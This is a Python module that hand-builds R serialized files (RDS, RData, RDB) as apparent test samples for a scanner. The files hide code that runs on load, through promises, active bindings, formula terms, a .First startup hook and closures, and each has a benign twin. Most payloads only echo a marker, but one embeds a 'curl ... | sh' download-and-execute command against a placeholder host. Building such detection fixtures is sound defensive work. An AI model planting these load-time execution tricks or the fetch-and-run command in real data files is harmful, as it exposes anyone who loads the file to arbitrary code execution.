"""R objects: promises, formulas, active bindings and workspaces that run something, and benign twins.

The encoder is written from R Internals, section 1.8. Nothing here was written by R.
"""

from __future__ import annotations

import bz2
import gzip
import struct
import zlib
from collections.abc import Callable, Iterator

MARKER = "echo weighbridge-marker"
SYMBOL, PAIR, CLOSURE, ENVIRONMENT, PROMISE, CALL = 1, 2, 3, 4, 5, 6
BUILTIN, CHARACTERS, INTEGER, REAL, STRINGS, LIST, BYTECODE = 8, 9, 13, 14, 16, 19, 21
ALTREP, EMPTY_ENVIRONMENT, NAMESPACE, MISSING, UNBOUND, GLOBAL, NULL = 238, 242, 249, 251, 252, 253, 254
OBJECT, ATTRIBUTES, TAG = 0x100, 0x200, 0x400
ACTIVE = (1 << 15) << 12

Write = Callable[["Writer"], None]
"""Writes one item."""


class Writer:
    """One stream: `X` XDR, `B` native (little-endian), `A` text."""

    def __init__(self, spelling: str = "X", version: int = 3) -> None:
        self.out = bytearray()
        self.spelling = spelling
        self.symbols: dict[str, int] = {}
        self.out += f"{spelling}\n".encode()
        for number in (version, 0x040302, 0x030500 if version == 3 else 0x020300):
            self.integer(number)
        if version == 3:
            self.integer(5)
            self.raw("UTF-8")

    def integer(self, value: int) -> None:
        if self.spelling == "A":
            self.out += f"{value}\n".encode()
        else:
            self.out += struct.pack("<i" if self.spelling == "B" else ">i", value)

    def raw(self, text: str) -> None:
        if self.spelling == "A":
            escaped = text.replace("\\", "\\\\").replace("\n", "\\n").replace(" ", "\\040")
            self.out += f"{escaped}\n".encode()
        else:
            self.out += text.encode()

    def real(self, value: float) -> None:
        if self.spelling == "A":
            self.out += f"{value}\n".encode()
        else:
            self.out += struct.pack("<d" if self.spelling == "B" else ">d", value)


def null(out: Writer) -> None:
    out.integer(NULL)


def unbound(out: Writer) -> None:
    out.integer(UNBOUND)


def global_environment(out: Writer) -> None:
    out.integer(GLOBAL)


def _characters(out: Writer, text: str) -> None:
    out.integer(CHARACTERS | 64 << 12)
    out.integer(len(text.encode()))
    out.raw(text)


def symbol(name: str) -> Write:
    def write(out: Writer) -> None:
        if name in out.symbols:
            out.integer(out.symbols[name] << 8 | 255)
            return
        out.symbols[name] = len(out.symbols) + 1
        out.integer(SYMBOL)
        _characters(out, name)

    return write


def strings(*texts: str, attributes: Write | None = None) -> Write:
    def write(out: Writer) -> None:
        out.integer(STRINGS | (ATTRIBUTES if attributes else 0))
        out.integer(len(texts))
        for text in texts:
            _characters(out, text)
        if attributes:
            attributes(out)

    return write


def reals(*values: float) -> Write:
    def write(out: Writer) -> None:
        out.integer(REAL)
        out.integer(len(values))
        for value in values:
            out.real(value)

    return write


def pairs(*cells: tuple[str, Write], kind: int = PAIR, levels: int = 0) -> Write:
    """A pairlist, with names where they are not empty."""

    def write(out: Writer) -> None:
        for name, value in cells:
            out.integer(kind | levels | (TAG if name else 0))
            if name:
                symbol(name)(out)
            value(out)
        null(out)

    return write


def call(function: Write, *arguments: tuple[str, Write], attributes: Write | None = None) -> Write:
    def write(out: Writer) -> None:
        out.integer(CALL | (ATTRIBUTES | OBJECT if attributes else 0))
        if attributes:
            attributes(out)
        function(out)
        pairs(*arguments)(out)

    return write


def calls(name: str, *arguments: Write) -> Write:
    return call(symbol(name), *(("", argument) for argument in arguments))


def promise(expression: Write, value: Write = unbound, environment: Write = global_environment) -> Write:
    def write(out: Writer) -> None:
        out.integer(PROMISE | TAG)
        for part in (environment, value, expression):
            part(out)

    return write


def closure(body: Write, arguments: Write = null, environment: Write = global_environment) -> Write:
    def write(out: Writer) -> None:
        out.integer(CLOSURE | TAG)
        for part in (environment, arguments, body):
            part(out)

    return write


def named_list(*cells: tuple[str, Write], name_class: str = "") -> Write:
    def write(out: Writer) -> None:
        out.integer(LIST | ATTRIBUTES | (OBJECT if name_class else 0))
        out.integer(len(cells))
        for _, value in cells:
            value(out)
        names = ("names", strings(*(name for name, _ in cells)))
        classes = [("class", strings(name_class))] if name_class else []
        pairs(names, *classes)(out)

    return write


def environment(frame: Write) -> Write:
    """An environment. Its number in the list of references is not kept: symbols come first in use."""

    def write(out: Writer) -> None:
        out.integer(ENVIRONMENT)
        out.integer(0)
        out.symbols[f"environment {len(out.symbols)}"] = len(out.symbols) + 1
        for part in (global_environment, frame, null, null):
            part(out)

    return write


def bytecode(*constants: tuple[int, Write]) -> Write:
    """Byte code without instructions, and its constants."""

    def write(out: Writer) -> None:
        out.integer(BYTECODE)
        out.integer(1)
        reals()(out)
        out.integer(len(constants))
        for kind, constant in constants:
            out.integer(kind)
            constant(out)

    return write


def mapped_file(path: str) -> Write:
    def write(out: Writer) -> None:
        out.integer(ALTREP)
        pairs(("", symbol("mmap_real")), ("", symbol("simplemmap")), ("", reals(14)))(out)
        pairs(("", strings(path)), ("", reals(8, 14)))(out)
        null(out)

    return write


def rds(root: Write, *, spelling: str = "X", version: int = 3) -> bytes:
    out = Writer(spelling, version)
    root(out)
    return bytes(out.out)


def workspace(*cells: tuple[str, Write], spelling: str = "X", version: int = 3) -> bytes:
    return f"RD{spelling}{version}\n".encode() + rds(pairs(*cells), spelling=spelling, version=version)


SYSTEM = calls("system", strings(MARKER))


def linear_model(*terms: Write) -> Write:
    """What `lm` returns, as far as it holds code: its call, and the formula with its attributes."""
    right: Write = symbol("wt")
    for term in terms:
        right = calls("+", right, term)
    variables = calls("list", symbol("mpg"), symbol("wt"), *terms)
    attributes = pairs(
        ("variables", variables),
        ("predvars", variables),
        ("class", strings("terms", "formula")),
        (".Environment", global_environment),
    )
    formula = call(symbol("~"), ("", symbol("mpg")), ("", right), attributes=attributes)
    return named_list(
        ("coefficients", reals(37.2, -5.3)),
        ("call", call(symbol("lm"), ("formula", formula), ("data", symbol("mtcars")))),
        ("terms", formula),
        name_class="lm",
    )


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    yield from _promises()
    yield from _delayed()
    yield from _functions()


def _promises() -> Iterator[tuple[str, bytes]]:
    attack = promise(SYSTEM)
    yield "rds/promise.rds", gzip.compress(rds(attack), mtime=0)
    yield "rds/promise-text.rds", rds(attack, spelling="A", version=2)
    yield "rds/promise-native.rds", rds(attack, spelling="B")
    yield "rds/promise-second-byte.rds", b"X\0" + rds(attack)[2:]
    yield "rds/promise.RData", bz2.compress(workspace(("model", attack)))
    parsed = calls("eval", calls("parse", strings(f'base::system("{MARKER}")')))
    yield "rds/promise-parsed.rds", rds(promise(parsed), version=2)
    yield "rds/promise-unknown-call.rds", rds(promise(calls("f", reals(1))))
    yield "rds/promise-value.twin.rds", rds(promise(SYSTEM_OF_PAST, value=reals(1)))
    block = zlib.compress(rds(attack))
    bundle = struct.pack(">I", len(rds(attack))) + block
    yield "rds/bundle.rdb", struct.pack(">I", 40) + zlib.compress(rds(reals(1, 2))) + bundle
    yield "rds/bundle.twin.rdb", struct.pack(">I", 40) + zlib.compress(rds(reals(1, 2)))


SYSTEM_OF_PAST = calls("mean", symbol("x"))


def _delayed() -> Iterator[tuple[str, bytes]]:
    lazy = environment(pairs(("x", promise(SYSTEM))))
    yield "rds/lazy-argument.rds", rds(closure(symbol("x"), environment=lazy))
    usual = environment(pairs(("x", promise(calls("sqrt", reals(2))))))
    yield "rds/lazy-argument.twin.rds", rds(closure(symbol("x"), environment=usual))
    active = environment(pairs(("coefficients", closure(SYSTEM)), levels=ACTIVE))
    yield "rds/active-binding.rds", rds(active)
    yield "rds/formula.rds", rds(linear_model(SYSTEM))
    yield "rds/formula.twin.rds", rds(linear_model(calls("poly", symbol("hp"), reals(2))))
    yield "rds/startup.twin.RData", workspace((".First", closure(calls("options", reals(4)))))
    yield "rds/startup.RData", workspace((".First", closure(SYSTEM)), ("model", linear_model()))
    yield "rds/mapped-file.rds", rds(mapped_file("/tmp/weighbridge-marker"))


def _functions() -> Iterator[tuple[str, bytes]]:
    yield "rds/function.rds", rds(named_list(("predict", closure(SYSTEM))))
    yield "rds/expression.rds", rds(named_list(("call", SYSTEM)))
    evaluated = environment(pairs(("x", promise(SYSTEM, value=reals(1)))))
    yield "rds/expression-past.rds", rds(closure(symbol("x"), environment=evaluated))
    fetches = calls("system", strings("curl -s https://example.invalid/weighbridge-marker | sh"))
    yield "rds/function-download.rds", rds(named_list(("predict", closure(fetches))))
    qualified = call(calls("::", symbol("utils"), symbol("download.file")), ("", strings("marker")))
    yield "rds/function-package.rds", rds(named_list(("predict", closure(qualified))))
    compiled = bytecode((NULL, calls("mean", symbol("x"))), (SYMBOL, symbol("system2")))
    yield "rds/function-bytecode.rds", rds(closure(compiled))
    evaluates = calls("eval", calls("substitute", symbol("formula")), symbol("data"))
    yield "rds/function.twin.rds", rds(named_list(("fit", closure(evaluates))))
